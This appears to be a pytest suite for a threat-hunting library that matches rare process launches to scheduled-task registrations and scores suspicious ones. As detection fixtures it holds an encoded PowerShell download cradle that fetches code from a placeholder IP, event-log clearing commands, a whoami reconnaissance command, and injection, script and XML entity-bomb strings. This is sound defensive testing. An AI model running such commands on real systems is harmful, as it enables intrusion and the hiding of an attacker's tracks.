"""tasks/definitions.py and tasks/never_ran.py: each rare group's registered task, the five
signals (each firing on a minimal frame and not on its near miss), and the companion table of
rare registrations that never ran."""

from __future__ import annotations

import warnings

import pandas as pd
import pytest

from hunting_lib.errors import DataWarning
from hunting_lib.params import HuntParams
from hunting_lib.tasks.definitions import SIGNALS, load_task_config, task_definitions
from hunting_lib.tasks.registrations import TaskEvents
from hunting_lib.triage.scoring import default_scoring
from tests.task_rows import (
    SCHEDULE,
    T0,
    TASKS,
    TREE,
    actions_blob,
    frame,
    json_content,
    launch,
    logon,
    registration,
    registry_row,
    remote_registration,
    spec,
    xml_content,
)

CMD = "C:\\Windows\\System32\\cmd.exe"
WHOAMI = "/c whoami > C:\\Windows\\Temp\\x.tmp 2>&1"
PAYLOAD = "C:\\ProgramData\\Svc\\svc.exe"


def groups(starts: pd.DataFrame) -> pd.DataFrame:
    """The rare groups of these launches, as the hunt hands them on (one TaskId per strings)."""
    keys = ["FileName", "ProcessCommandLine", "FolderPath"]
    out = starts.groupby(keys, as_index=False, sort=False).agg(
        Count=("Timestamp", "size"), DeviceCount=("DeviceName", "nunique"), FirstSeen=("Timestamp", "min"))
    return out.assign(TaskId=range(len(out)))


def hunt(launches: list[dict], registrations: list[dict] = (), registry: list[dict] = (), logons: list[dict] = (),
         params: HuntParams | None = None, ran_elsewhere: pd.DataFrame | None = None):
    starts = frame(launches)
    rare = groups(starts)
    events = TaskEvents(registrations=frame(list(registrations)) if registrations else pd.DataFrame(),
                        registry=frame(list(registry)) if registry else pd.DataFrame(),
                        logons=frame(list(logons)) if logons else pd.DataFrame())
    with warnings.catch_warnings():
        warnings.simplefilter("error", DataWarning)
        return task_definitions(rare, starts, events, params or HuntParams(), ran_elsewhere=ran_elsewhere)


def whoami_launch(minutes: float = 5, device: str = "pc-01") -> dict:
    return launch(CMD, f"cmd.exe {WHOAMI}", minutes=minutes, device=device)


def whoami_task(**overrides) -> str:
    return json_content(spec(actions=[("%windir%\\system32\\cmd.exe", WHOAMI)], **overrides))


def test_a_registration_becomes_the_groups_definition():
    out, _ = hunt([whoami_launch(5), launch(PAYLOAD, PAYLOAD, 7)],
                  [registration("\\Updater", whoami_task(), minutes=0, process="schtasks.exe",
                                command_line="schtasks /create /tn Updater /tr ...", parent="cmd.exe")])
    entry, = out.loc[0, "TaskDefinitions"]
    assert entry["TaskName"] == "\\Updater"
    assert (entry["Command"], entry["Arguments"]) == ("%windir%\\system32\\cmd.exe", WHOAMI)
    assert entry["Triggers"] == ["TimeTrigger at 2026-11-03T02:00:00"]
    assert (entry["Principal"], entry["RunLevel"], entry["LogonType"]) == ("S-1-5-18", "HighestAvailable",
                                                                           "ServiceAccount")
    assert entry["Hidden"] is True and entry["Source"] == "api" and entry["Format"] == "json"
    assert entry["RegisteredAt"] == "2026-11-03T02:00:00.0000000Z"
    assert entry["RegisteredBy"] == "FABRIKAM\\admin"
    assert (entry["RegisteredByProcess"], entry["RegisteredByCommandLine"]) == (
        "schtasks.exe", "schtasks /create /tn Updater /tr ...")
    assert entry["RegisteredFromNetworkLogon"] is False and entry["RemoteIP"] is None
    assert entry["DeletedAt"] is None and entry["UpdatedAt"] is None and entry["DeviceName"] == "pc-01"
    assert out.loc[0, "TaskNames"] == ["\\Updater"]
    assert out.loc[0, "FirstRegisteredAt"] == T0
    assert out.loc[1, "TaskDefinitions"] == [] and out.loc[1, "TaskNames"] == []
    assert pd.isna(out.loc[1, "FirstRegisteredAt"])
    for name in SIGNALS:
        assert out[name].dtype == bool


def test_xml_and_json_registrations_match_alike():
    for content in (xml_content(spec(actions=[("%windir%\\system32\\cmd.exe", WHOAMI)])), whoami_task()):
        out, _ = hunt([whoami_launch()], [registration("\\U", content)])
        assert [e["TaskName"] for e in out.loc[0, "TaskDefinitions"]] == ["\\U"]


def test_the_second_exec_action_matches_too():
    content = json_content(spec(actions=[("C:\\x\\first.exe", ""), ("cmd.exe", WHOAMI)]))
    out, _ = hunt([whoami_launch()], [registration("\\Two", content)])
    assert out.loc[0, "TaskNames"] == ["\\Two"]


def test_no_match_on_another_device_or_another_argument():
    out, _ = hunt([whoami_launch()], [registration("\\Other", whoami_task(), device="pc-02"),
                                      registration("\\Args", json_content(spec(actions=[(CMD, "/c whoami /all")])))])
    assert out.loc[0, "TaskDefinitions"] == []


def test_devices_join_when_one_table_has_no_device_ids():
    starts = frame([whoami_launch()]).drop(columns="DeviceId")
    starts["DeviceName"] = starts["DeviceName"].str.upper()  # and names differ in case
    events = TaskEvents(registrations=frame([registration("\\U", whoami_task())]))
    out, _ = task_definitions(groups(starts), starts, events, HuntParams())
    assert out.loc[0, "TaskNames"] == ["\\U"]


def test_one_entry_per_device():
    out, _ = hunt([whoami_launch(5, "pc-01"), whoami_launch(5, "pc-02")],
                  [registration("\\U", whoami_task(), device="pc-01"),
                   registration("\\U", whoami_task(), device="pc-02"),
                   registration("\\U", whoami_task(), minutes=1, device="pc-02", action="ScheduledTaskUpdated")])
    entries = out.loc[0, "TaskDefinitions"]
    assert sorted(e["DeviceName"] for e in entries) == ["pc-01", "pc-02"]
    by_device = {e["DeviceName"]: e for e in entries}
    assert by_device["pc-02"]["UpdatedAt"] == "2026-11-03T02:01:00.0000000Z" and by_device["pc-01"]["UpdatedAt"] is None


@pytest.mark.parametrize("registered, expected", [(-10, True), (-120, False), (2, False)])
def test_registered_before_first_run(registered, expected):
    # the group first runs at +5 and again at +200: only the first run counts
    out, _ = hunt([whoami_launch(5), whoami_launch(200)], [registration("\\U", whoami_task(), minutes=5 + registered)])
    assert out.loc[0, "registered_before_first_run"] == expected
    assert out.loc[0, "TaskNames"] == ["\\U"]


def test_registered_remotely_from_a_network_logon():
    out, _ = hunt([whoami_launch()], [remote_registration("\\R", whoami_task())],
                  logons=[logon(0x1A2B3C, ip="10.0.0.7", remote="admin-ws")])
    entry, = out.loc[0, "TaskDefinitions"]
    assert out.loc[0, "registered_remotely"]
    assert (entry["RegisteredFromNetworkLogon"], entry["RemoteIP"], entry["RemoteDevice"]) == (True, "10.0.0.7",
                                                                                               "admin-ws")
    assert entry["RegisteredBy"] == "FABRIKAM\\admin" and entry["RegisteredByProcess"] == "svchost.exe"


def test_system_via_the_schedule_service_without_a_logon_is_not_remote():
    out, _ = hunt([whoami_launch()], [remote_registration("\\S", whoami_task(),
                                                          subject=("NT AUTHORITY", "SYSTEM", "0x3e7"))],
                  logons=[logon(0x1A2B3C)])
    assert out.loc[0, "TaskNames"] == ["\\S"] and not out.loc[0, "registered_remotely"]
    assert out.loc[0, "TaskDefinitions"][0]["RegisteredFromNetworkLogon"] is False


@pytest.mark.parametrize("process, parent, expected", [
    ("wscript.exe", "explorer.exe", True), ("powershell.exe", "explorer.exe", True),
    ("schtasks.exe", "mshta.exe", True), ("schtasks.exe", "cmd.exe", False), ("msiexec.exe", "services.exe", False)])
def test_registered_by_script_host(process, parent, expected):
    out, _ = hunt([whoami_launch()], [registration("\\U", whoami_task(), process=process, parent=parent)])
    assert out.loc[0, "registered_by_script_host"] == expected


@pytest.mark.parametrize("deleted, expected", [(2, True), (180, False)])
def test_deleted_after_run(deleted, expected):
    out, _ = hunt([whoami_launch(5)], [registration("\\A", whoami_task()),
                                       registration("\\A", None, minutes=5 + deleted, action="ScheduledTaskDeleted")])
    assert out.loc[0, "deleted_after_run"] == expected
    deleted_at = T0 + pd.Timedelta(minutes=5 + deleted)
    assert out.loc[0, "TaskDefinitions"][0]["DeletedAt"] == deleted_at.strftime("%Y-%m-%dT%H:%M:%S") + ".0000000Z"


def registry_task(name: str = "Svc", guid: str = "{0A1B2C3D-0000-0000-0000-000000000001}", minutes: float = 0,
                  process: str = "reg.exe", command_line: str = "reg import t.reg", blob: str | None = None,
                  device: str = "pc-01") -> list[dict]:
    """The TaskCache writes of a task registered through the registry."""
    who = dict(process=process, command_line=command_line, device=device)
    rows = [registry_row(f"{TREE}\\{name}", "", "", minutes, action="RegistryKeyCreated", **who),
            registry_row(f"{TREE}\\{name}", "Id", guid, minutes, **who),
            registry_row(f"{TASKS}\\{guid}", "Path", f"\\{name}", minutes, **who)]
    if blob is not None:
        rows.append(registry_row(f"{TASKS}\\{guid}", "Actions", blob, minutes, **who))
    return rows


def test_registered_outside_api_by_its_decoded_action():
    out, _ = hunt([launch(PAYLOAD, f'"{PAYLOAD}" -k', 30), whoami_launch(31)],
                  registry=registry_task(blob=actions_blob("%ProgramData%\\Svc\\svc.exe", "-k")))
    assert out["registered_outside_api"].tolist() == [True, False]
    entry, = out.loc[0, "TaskDefinitions"]
    assert (entry["Source"], entry["TaskName"], entry["Command"], entry["Arguments"]) == (
        "registry", "\\Svc", "%ProgramData%\\Svc\\svc.exe", "-k")
    assert entry["RegisteredBy"] == "nt authority\\system" and entry["RegisteredByCommandLine"] == "reg import t.reg"
    assert entry["Hidden"] is False and entry["Format"] is None
    assert entry["Actions"] == [{"Type": "Exec", "Command": "%ProgramData%\\Svc\\svc.exe", "Arguments": "-k",
                                 "WorkingDirectory": ""}]


def test_registered_outside_api_by_time_when_no_action_is_readable():
    near, _ = hunt([launch(PAYLOAD, PAYLOAD, 60 * 3)], registry=registry_task())
    far, _ = hunt([launch(PAYLOAD, PAYLOAD, 60 * 30)], registry=registry_task())
    assert near.loc[0, "registered_outside_api"] and near.loc[0, "TaskNames"] == ["\\Svc"]
    assert not far.loc[0, "registered_outside_api"]


def test_the_schedule_service_writing_task_cache_is_normal():
    rows = [dict(r, InitiatingProcessFileName="svchost.exe", InitiatingProcessCommandLine=SCHEDULE)
            for r in registry_task(blob=actions_blob(PAYLOAD))]
    out, _ = hunt([launch(PAYLOAD, PAYLOAD, 30)], registry=rows)
    assert not out.loc[0, "registered_outside_api"] and out.loc[0, "TaskDefinitions"] == []


def test_an_api_task_written_again_by_the_schedule_service_is_not_outside_the_api():
    api = registration("\\Svc", json_content(spec(actions=[(PAYLOAD, "")])))
    rows = registry_task(process="svchost.exe", command_line=SCHEDULE, blob=actions_blob(PAYLOAD))
    out, _ = hunt([launch(PAYLOAD, PAYLOAD, 30)], [api], rows)
    assert not out.loc[0, "registered_outside_api"] and out.loc[0, "TaskNames"] == ["\\Svc"]


def test_deleting_the_security_descriptor_hides_the_task():
    api = registration("\\Svc", json_content(spec(actions=[(PAYLOAD, "")], hidden=False)))
    sd = registry_row(f"{TREE}\\Svc", "SD", "", 3, action="RegistryValueDeleted", process="powershell.exe")
    out, _ = hunt([launch(PAYLOAD, PAYLOAD, 30)], [api], [sd])
    assert out.loc[0, "registered_outside_api"]
    entry, = out.loc[0, "TaskDefinitions"]  # the API entry, marked hidden, not a second entry
    assert entry["Source"] == "api" and entry["Hidden"] is True


def test_companion_table_lists_rare_registrations_that_never_ran():
    never = registration("\\Staged", json_content(spec(actions=[("%APPDATA%\\st\\st.exe", "-i 5")])),
                         process="wscript.exe", device="pc-05", report_id=7)
    ran = registration("\\Ran", whoami_task())
    frequent = [registration("\\Common", json_content(spec(actions=[("C:\\Tools\\agent.exe", "/sync")])),
                             device=f"pc-1{i}") for i in range(3)]
    elsewhere = registration("\\Elsewhere", json_content(spec(actions=[("C:\\Tools\\other.exe", "")])), device="pc-06")
    deleted = [registration("\\Gone", json_content(spec(actions=[("C:\\x\\g.exe", "")])), device="pc-07"),
               registration("\\Gone", None, minutes=1, device="pc-07", action="ScheduledTaskDeleted")]
    other_run = pd.DataFrame({"FileName": ["other.exe"], "FolderPath": ["C:\\Tools\\other.exe"],
                              "ProcessCommandLine": ["C:\\Tools\\other.exe"]})
    _, table = hunt([whoami_launch()], [never, ran, *frequent, elsewhere, *deleted], ran_elsewhere=other_run)
    assert sorted(table["TaskName"]) == ["\\Gone", "\\Staged"]
    staged = table[table["TaskName"].eq("\\Staged")].iloc[0]
    assert staged["DeviceName"] == "pc-05" and staged["RegisteredBy"] == "FABRIKAM\\admin"
    assert staged["RegisteredAt"] == "2026-11-03T02:00:00.0000000Z" and staged["DeletedAt"] is None
    assert staged["RegisteredFromNetworkLogon"] is False or staged["RegisteredFromNetworkLogon"] == False  # noqa: E712
    assert {"registered_by_script_host", "user_writable_path"} <= set(staged["Reasons"])
    assert "registered_outside_api" not in staged["Reasons"]  # its definition's Hidden setting is not the API's
    config, weights = load_task_config(), default_scoring().weights
    assert staged["Score"] == pytest.approx(sum(weights.get(r, config.registration_weights.get(r, 0))
                                                for r in staged["Reasons"]))
    gone = table[table["TaskName"].eq("\\Gone")].iloc[0]
    assert "deleted_without_running" in gone["Reasons"] and gone["DeletedAt"] == "2026-11-03T02:01:00.0000000Z"
    assert list(table["Score"]) == sorted(table["Score"], reverse=True)
    for column in ("DeviceName", "TaskName", "Command", "Arguments", "RegisteredAt", "RegisteredBy",
                   "RegisteredFromNetworkLogon", "RemoteIP", "DeletedAt", "Triggers", "Principal", "RunLevel",
                   "RegisteredByProcess", "RegisteredByCommandLine", "Source", "Score", "Reasons"):
        assert column in table.columns


def test_companion_table_keeps_to_the_window():
    never = registration("\\Staged", json_content(spec(actions=[("C:\\x\\s.exe", "")])), minutes=0)
    inside = HuntParams(start=T0 - pd.Timedelta(hours=1), end=T0)
    after = HuntParams(start=T0 + pd.Timedelta(seconds=1))
    assert hunt([whoami_launch()], [never], params=inside)[1]["TaskName"].tolist() == ["\\Staged"]
    assert hunt([whoami_launch()], [never], params=after)[1].empty


def test_companion_reads_an_encoded_command_decoded():
    import base64

    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
    task = json_content(spec(actions=[("powershell.exe", f"-nop -w hidden -enc {encoded}")]))
    _, table = hunt([whoami_launch()], [registration("\\Enc", task, device="pc-09")])
    reasons = table.iloc[0]["Reasons"]
    assert {"encoded_command", "download_cradle"} <= set(reasons)


def test_remote_registration_that_never_ran_says_so():
    _, table = hunt([whoami_launch()], [remote_registration("\\R", json_content(spec(actions=[("C:\\x\\r.exe", "")])))],
                    logons=[logon(0x1A2B3C, ip="10.0.0.9")])
    row = table.iloc[0]
    assert row["RegisteredFromNetworkLogon"] and row["RemoteIP"] == "10.0.0.9"
    assert "registered_remotely" in row["Reasons"]


def test_a_never_run_task_hidden_by_deleting_its_sd_scores_outside_the_api():
    staged = registration("\\Staged", json_content(spec(actions=[("C:\\x\\s.exe", "")], hidden=False)))
    sd = registry_row(f"{TREE}\\Staged", "SD", "", 2, action="RegistryValueDeleted", process="powershell.exe")
    _, table = hunt([whoami_launch()], [staged], [sd])
    row = table.iloc[0]
    assert row["TaskName"] == "\\Staged" and row["Hidden"]
    assert "registered_outside_api" in row["Reasons"]
    _, plain = hunt([whoami_launch()], [staged])
    assert not plain.iloc[0]["Hidden"] and "registered_outside_api" not in plain.iloc[0]["Reasons"]


HOSTILE = ['"; | where 1==1 //', "<script>alert(1)</script>", "\u202e\u0000\r\nX", "' or ''='"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_strings_are_kept_verbatim(text):
    content = json_content(spec(actions=[(CMD, WHOAMI)], author=text, triggers=[("TimeTrigger", {"StartBoundary":
                                                                                                 text})]))
    out, table = hunt([whoami_launch()], [registration(f"\\{text}", content, command_line=text),
                                          registration(f"\\n{text}", json_content(spec(actions=[(text, text)])))])
    entry, = out.loc[0, "TaskDefinitions"]
    assert entry["TaskName"] == f"\\{text}" and entry["RegisteredByCommandLine"] == text
    assert table["Command"].tolist() == [text] and table["Arguments"].tolist() == [text]


def test_huge_and_broken_content_does_not_crash():
    huge = json_content(spec(actions=[(CMD, "/c " + "A" * 100_000)]))
    rows = [registration("\\Huge", huge), registration("\\Broken", "{"), registration("\\Bomb", "<!DOCTYPE x [<!ENTITY"
                                                                                             " a 'b'>]><Task/>")]
    starts = frame([whoami_launch()])
    events = TaskEvents(registrations=frame(rows))
    with pytest.warns(DataWarning, match="2 task registration"):
        out, table = task_definitions(groups(starts), starts, events, HuntParams())
    assert out.loc[0, "TaskDefinitions"] == []
    assert table["TaskName"].tolist() == ["\\Huge"]


def test_no_task_tables_at_all():
    out, table = hunt([whoami_launch()])
    assert out.loc[0, "TaskDefinitions"] == [] and not out[list(SIGNALS)].any().any()
    assert table.empty and "Score" in table.columns


# ---------------------------------------------------------------------------------------------
# The sample data: every planted task's registration, as sample_data/scenarios.yaml records it


@pytest.fixture(scope="module")
def sample():
    import yaml

    from hunting_lib import load_data_folder, run_hunt
    from hunting_lib.tasks.registrations import task_events_from_tables
    from tests.conftest import SAMPLE_DATA

    scenarios = yaml.safe_load((SAMPLE_DATA / "scenarios.yaml").read_text(encoding="utf-8"))["scenarios"]
    result = run_hunt(SAMPLE_DATA, HuntParams(max_devices=1), indicators=False)  # the one-device beacon too
    tables = load_data_folder(SAMPLE_DATA).tables
    processes = tables["DeviceProcessEvents"]
    by_scheduler = processes[processes["InitiatingProcessFileName"].str.lower().eq("svchost.exe")
                             & processes["InitiatingProcessCommandLine"].str.contains("Schedule", regex=False)]
    with warnings.catch_warnings():
        warnings.simplefilter("error", DataWarning)  # the sample's task content all reads
        out, table = task_definitions(result.rare_tasks, result.task_starts, task_events_from_tables(tables),
                                      result.params, ran_elsewhere=by_scheduler)
    return scenarios, out, table


def _group(out: pd.DataFrame, scenario: dict) -> pd.Series | None:
    same = (out["FileName"].eq(scenario["FileName"]) & out["ProcessCommandLine"].eq(scenario["ProcessCommandLine"])
            & out["FolderPath"].eq(scenario["FolderPath"]))
    return out[same].iloc[0] if same.any() else None


def test_sample_every_planted_task_shows_its_registration(sample):
    scenarios, out, _ = sample
    registered = [s for s in scenarios if s.get("registration") and s["registration"].get("ran", True)]
    assert {s["id"] for s in registered if s["kind"] == "malicious"} >= {
        s["id"] for s in scenarios if s["kind"] == "malicious"}, "every planted malicious task is registered"
    checked = 0
    for scenario in registered:
        group = _group(out, scenario)
        if group is None:
            assert scenario["kind"] != "malicious", f"{scenario['id']}: its group is not rare"
            continue
        key = scenario["registration"]
        entries = [e for e in group["TaskDefinitions"]
                   if e["TaskName"] == key["task_name"] and e["DeviceName"] == key["device"]]
        assert len(entries) == 1, (scenario["id"], group["TaskDefinitions"])
        entry = entries[0]
        assert entry["RegisteredAt"] == key["registered_at"], scenario["id"]
        assert entry["RegisteredBy"].lower() == key["registered_by"].lower(), scenario["id"]
        assert entry["RegisteredByProcess"].lower() == key["registered_by_process"].lower(), scenario["id"]
        assert entry["Source"] == ("registry" if key["registry_only"] else "api"), scenario["id"]
        assert entry["Format"] == (None if key["format"] == "registry" else key["format"]), scenario["id"]
        assert entry["RegisteredFromNetworkLogon"] == bool(key["remote"]) and entry["RemoteIP"] == key["remote_ip"]
        assert entry["DeletedAt"] == key["deleted_at"], scenario["id"]
        if key["hidden"]:
            assert entry["Hidden"], scenario["id"]
        assert bool(group["registered_remotely"]) == bool(key["remote"]), scenario["id"]
        assert bool(group["registered_outside_api"]) == bool(key["registry_only"] or key["hidden"]), scenario["id"]
        if key["deleted_at"]:
            assert group["deleted_after_run"], scenario["id"]
        checked += 1
    assert checked >= len([s for s in scenarios if s["kind"] == "malicious"])
    special = {(s["registration"]["remote"], s["registration"]["registry_only"], bool(s["registration"]["deleted_at"]))
               for s in registered if s["kind"] == "malicious"}
    # the sample plants each special case: remote, registry only, deleted after its run
    assert any(remote for remote, _, _ in special) and any(only for _, only, _ in special)
    assert any(deleted for _, _, deleted in special)


def test_sample_never_run_registrations_are_in_the_companion_table(sample):
    scenarios, _, table = sample
    never = [s for s in scenarios if s.get("registration") and not s["registration"].get("ran", True)]
    assert never, "the sample plants a registration that never ran"
    listed = set(zip(table["DeviceName"], table["TaskName"]))
    for scenario in never:
        assert (scenario["registration"]["device"], scenario["registration"]["task_name"]) in listed, scenario["id"]
    ran = {(s["registration"]["device"], s["registration"]["task_name"]) for s in scenarios
           if s.get("registration") and s["registration"].get("ran", True)}
    assert not ran & listed
    top = table.iloc[0]
    assert (top["DeviceName"], top["TaskName"]) in {(s["registration"]["device"], s["registration"]["task_name"])
                                                    for s in never}


@pytest.mark.parametrize("text, words", [
    ("minutes_before_first_run: soon\n", "minutes_before_first_run: 'soon' is not a number"),
    ("registry_link_hours: -1\n", "registry_link_hours: -1 must be 0 or more"),
    ("logon_address_seconds: -5\n", "logon_address_seconds: -5 must be 0 or more"),
    ("script_hosts: powershell.exe\n", "script_hosts: expected a list"),
    ("registration_weights: {registered_remotely: high}\n", "registered_remotely: 'high' is not a number"),
    ("[unclosed\n", "not valid YAML"), ("- a list\n", "expected a mapping")])
def test_a_bad_settings_file_is_one_clear_error(tmp_path, text, words):
    from hunting_lib.errors import BadInputError

    path = tmp_path / "task_definitions.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(BadInputError, match="task_definitions.yaml") as raised:
        load_task_config(path)
    assert words in str(raised.value) and "\n" not in str(raised.value)


def test_settings_file_overrides(tmp_path):
    path = tmp_path / "t.yaml"
    path.write_text("minutes_before_first_run: 180\nscript_hosts: [WScript.exe]\n", encoding="utf-8")
    config = load_task_config(path)
    assert config.minutes_before_first_run == 180 and config.script_hosts == ("wscript.exe",)
    out, _ = hunt([whoami_launch(5)], [registration("\\U", whoami_task(), minutes=5 - 120, process="wscript.exe")])
    assert not out.loc[0, "registered_before_first_run"]  # 2 hours is outside the shipped 60 minutes
    starts = frame([whoami_launch(5)])
    events = TaskEvents(registrations=frame([registration("\\U", whoami_task(), minutes=5 - 120)]))
    wider, _ = task_definitions(groups(starts), starts, events, HuntParams(), config=config)
    assert wider.loc[0, "registered_before_first_run"]


SYS32 = "C:\\Windows\\System32\\"


@pytest.mark.parametrize("as_category", [False, True])
def test_a_task_the_scheduler_ran_out_of_scope_did_not_never_run(as_category):
    """The hunt passes every group the Task Scheduler launched in any scope as ``ran_elsewhere``
    (System32 programs too): a registration whose action one of them ran is no "never ran"."""
    tasks = {"\\ClearLog": ("%windir%\\system32\\wevtutil.exe", "cl Application"),
             "\\Cleanup": ("%windir%\\system32\\cleanmgr.exe", "/sagerun:1"),
             "\\Patch": ("wusa.exe", "C:\\Patches\\kb1.msu /quiet /norestart"),
             "\\Script": ("C:\\ProgramData\\Inv\\collect.cmd", "-all"),
             "\\ClearSystem": ("%windir%\\system32\\wevtutil.exe", "cl System")}  # never launched
    rows = [registration(name, json_content(spec(actions=[action])), device=f"srv-{i}", report_id=i)
            for i, (name, action) in enumerate(tasks.items())]
    launched = pd.DataFrame({
        "FileName": ["wevtutil.exe", "cleanmgr.exe", "wusa.exe", "cmd.exe", "wevtutil.exe"],
        "ProcessCommandLine": ["wevtutil.exe cl Application", "cleanmgr.exe /sagerun:1",
                               '"C:\\Windows\\system32\\wusa.exe" C:\\Patches\\kb1.msu /quiet /norestart',
                               'C:\\Windows\\system32\\cmd.exe /c ""C:\\ProgramData\\Inv\\collect.cmd" -all"',
                               "wevtutil.exe cl Security"],
        "FolderPath": [SYS32 + "wevtutil.exe", SYS32 + "cleanmgr.exe", SYS32 + "wusa.exe", SYS32 + "cmd.exe",
                       SYS32 + "wevtutil.exe"]})
    if as_category:  # as a parquet read may hand them on
        launched = launched.astype("category")
    _, table = hunt([whoami_launch()], rows, ran_elsewhere=launched)
    assert table["TaskName"].tolist() == ["\\ClearSystem"]
    _, unseen = hunt([whoami_launch()], rows)  # without those launches every one of them never ran
    assert sorted(unseen["TaskName"]) == sorted(tasks)


def test_the_address_of_an_rpc_session_comes_from_the_callers_logon_just_before(tmp_path):
    """atexec: the RPC session that registered the task records no address; the entry and the
    companion table take the same account's SMB logon 19 ms before it, and say so. The window is
    the settings file's ``logon_address_seconds``."""
    ms = 1 / 60_000
    logons = [logon(0x5A419BC, minutes=-7 * ms, ip="-", remote=""), logon(0x5A41984, minutes=-26 * ms,
                                                                          ip="10.23.123.11", remote="")]
    ran = remote_registration("\\R", whoami_task(), subject=("FABRIKAM", "admin", "0x5a419bc"))
    never = remote_registration("\\N", json_content(spec(actions=[("C:\\x\\n.exe", "")])),
                                subject=("FABRIKAM", "admin", "0x5a419bc"), report_id=2)
    out, table = hunt([whoami_launch()], [ran, never], logons=logons)
    entry, = out.loc[0, "TaskDefinitions"]
    assert (entry["RemoteIP"], entry["RemoteIPFrom"]) == ("10.23.123.11", "same account, 26 ms earlier")
    row = table.iloc[0]
    assert (row["TaskName"], row["RemoteIP"], row["RemoteIPFrom"]) == ("\\N", "10.23.123.11",
                                                                      "same account, 26 ms earlier")
    path = tmp_path / "t.yaml"
    path.write_text("logon_address_seconds: 0.01\n", encoding="utf-8")
    assert load_task_config(path).logon_address_seconds == 0.01
    starts = frame([whoami_launch()])
    events = TaskEvents(registrations=frame([ran]), logons=frame(logons))
    narrow, _ = task_definitions(groups(starts), starts, events, HuntParams(), config=load_task_config(path))
    entry, = narrow.loc[0, "TaskDefinitions"]
    assert (entry["RegisteredFromNetworkLogon"], entry["RemoteIP"], entry["RemoteIPFrom"]) == (True, None, None)


def test_a_cut_off_registration_keeps_its_command_line_signals():
    """OTRF's 4702: Empire's encoded PowerShell cut mid-way still reads as an encoded command and
    a download cradle (the signals read the decoded part that is there), and says Truncated."""
    import base64

    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); " + "$x=1;" * 400
    arguments = "-NoP -sta -NonI -W Hidden -Enc " + base64.b64encode(cradle.encode("utf-16-le")).decode()
    text = xml_content(spec(actions=[("powershell", arguments)]))
    cut = text[:text.index("-Enc ") + 2000]
    rows = [registration("\\Cut", cut, device="pc-09", action="ScheduledTaskUpdated")]
    starts = frame([whoami_launch()])
    with pytest.warns(DataWarning, match="1 task registration row.s. cut off"):
        _, table = task_definitions(groups(starts), starts, TaskEvents(registrations=frame(rows)), HuntParams())
    row = table.iloc[0]
    assert row["TaskName"] == "\\Cut" and bool(row["Truncated"]) and row["Command"] == "powershell"
    assert arguments.startswith(row["Arguments"]) and len(row["Arguments"]) < len(arguments)
    assert {"encoded_command", "download_cradle", "hidden_or_bypass"} <= set(row["Reasons"])
